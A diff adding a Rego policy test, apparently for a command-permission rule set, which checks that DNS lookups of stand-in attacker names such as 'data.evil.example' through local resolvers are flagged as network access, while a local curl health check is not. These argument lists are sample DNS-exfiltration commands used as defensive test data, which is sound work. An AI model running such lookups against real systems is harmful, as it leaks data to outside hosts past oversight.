@@ -374,3 +374,16 @@ test_ask_network_build_ssh_agent if {
 	# a key file named is a read, judged by the path rules
 	not "ask.network" in rules(object.union(simple_call(["docker", "build", "--ssh", "deploy=keys/deploy_key", "."]), {"sandboxed": false}))
 }
+
+# a DNS server on this machine forwards the lookup: no loopback excuse
+test_ask_network_dns_through_loopback_resolver if {
+	every argv in [
+		["nslookup", "$H", "127.0.0.1"],
+		["host", "x.evil.example", "127.0.0.53"],
+		["dig", "@127.0.0.1", "data.evil.example"],
+		["drill", "data.evil.example", "@::1"],
+	] {
+		"ask.network" in rules(simple_call(argv))
+	}
+	not "ask.network" in rules(simple_call(["curl", "http://127.0.0.1:8080/health"]))
+}
